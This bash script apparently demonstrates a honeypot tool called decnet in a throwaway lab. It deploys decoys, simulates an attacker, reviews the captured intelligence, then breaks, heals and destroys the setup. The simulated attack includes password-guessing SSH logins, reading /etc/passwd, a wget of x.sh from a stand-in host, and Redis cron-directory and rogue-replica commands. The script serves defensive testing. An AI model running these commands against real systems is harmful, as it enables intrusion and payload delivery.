#!/usr/bin/env bash
# The story of examples/quickstart, told with real clients: plan, apply, attack,
# look, break, heal, destroy. Everything happens in a lab, two network namespaces
# on one wire, and nothing is left of it. Needs root, and Docker only with
# DECNET_RUNTIME=docker.
set -euo pipefail
cd "$(dirname "$0")/../.."

decnet=$PWD/bin/decnet
lab=demo-$$
began=$(date +%s%N)

if [ -t 1 ]; then bold=$'\e[1m' dim=$'\e[2m' off=$'\e[0m'; else bold='' dim='' off=''; fi
say() { printf '\n%s== %s%s\n' "$bold" "$*" "$off"; }
ms() { echo $((($(date +%s%N) - $1) / 1000000)); }
operator() { "$decnet" lab exec "$lab" operator -- "$@"; }
attacker() { "$decnet" lab exec "$lab" attacker -- "$@"; }
settle() { # until intel has no more news
	local before='' after=none tries=0
	while [ "$before" != "$after" ] && [ "$tries" -lt 20 ]; do
		before=$after tries=$((tries + 1))
		sleep 0.4
		after=$(here events --json --limit 1 2>/dev/null | cksum)
	done
}
typed() { printf '%s$ %s%s\n' "$dim" "$*" "$off"; }

scratch=$(mktemp -d)
intel=
cleanup() {
	status=$?
	[ -z "$intel" ] || kill "$intel" 2>/dev/null || true
	[ -z "$intel" ] || wait "$intel" 2>/dev/null || true
	"$decnet" lab down "$lab" || status=1
	rm -rf "$scratch"
	exit "$status"
}
trap cleanup EXIT

cp examples/quickstart/main.hcl "$scratch/"
here() { operator "$decnet" -C "$scratch" "$@"; }

say "A lab: two network namespaces on one wire"
if [ "${DECNET_RUNTIME:-native}" = docker ]; then
	"$decnet" lab up "$lab" --docker
else
	export DECNET_RUNTIME=native
	"$decnet" lab up "$lab"
fi

say "decnet plan"
here plan --out "$scratch/plan"

say "decnet apply carries out exactly that"
here apply "$scratch/plan"

say "decnet intel, in the background"
here intel >"$scratch/intel.log" 2>&1 &
intel=$!
linux=$(here output linux_ip) web=$(here output web_ip) database=$(here output database_ip)

say "An attacker arrives"
# ssh asks this program for the password.
printf '#!/bin/sh\necho "$DEMO_PASSWORD"\n' >"$scratch/askpass"
chmod 755 "$scratch/askpass"
login() { # password, command...
	local password=$1
	shift
	attacker env DEMO_PASSWORD="$password" SSH_ASKPASS="$scratch/askpass" SSH_ASKPASS_REQUIRE=force \
		ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o PubkeyAuthentication=no \
		-o NumberOfPasswordPrompts=1 "root@$linux" "$@" </dev/null
}
typed "ssh root@$linux            (password: letmein)"
login letmein id 2>&1 || true
for command in 'uname -a' 'id; cat /etc/passwd | head -3' 'wget -T 2 -t 1 http://198.51.100.7/x.sh'; do
	typed "ssh root@$linux '$command'    (password: toor)"
	login toor "$command" 2>&1 || true
done
typed "curl -i http://$web/"
attacker curl -s -i --max-time 10 "http://$web/" | head -n 9
typed "curl http://$web/.env"
attacker curl -s -o /dev/null -w '%{http_code}\n' --max-time 10 "http://$web/.env"
typed "redis-cli -h $database CONFIG SET dir /var/spool/cron"
attacker redis-cli -h "$database" INFO server | head -n 3
attacker redis-cli -h "$database" CONFIG SET dir /var/spool/cron
attacker redis-cli -h "$database" SLAVEOF 198.51.100.7 6379

say "What decnet knows"
settle
for question in sessions credentials "events --kind command" ttp attackers; do
	typed "decnet $question"
	# shellcheck disable=SC2086 # a command and its flags
	here $question
done

say "Somebody kills a decky"
name=$(here state show 'decky.ssh[0]' --attribute config.name)
if [ "$DECNET_RUNTIME" = docker ]; then
	typed "docker kill $name-ssh"
	operator docker kill "$name-ssh" >/dev/null
else
	netns=$(here state show 'decky.ssh[0]' --attribute namespace)
	typed "nsenter --net=$netns ip link delete eth0"
	nsenter --net="$netns" ip link delete eth0
fi

say "decnet plan sees it"
here plan --detailed-exitcode --out "$scratch/heal" || [ $? = 2 ]

say "decnet apply heals it"
here apply "$scratch/heal"
here plan --detailed-exitcode >/dev/null && echo "The plan after it is empty."

say "decnet destroy"
kill "$intel" && wait "$intel" || true
intel=
here plan --destroy --out "$scratch/destroy" | tail -n 3
here apply "$scratch/destroy"

say "Done in $(ms "$began") ms"
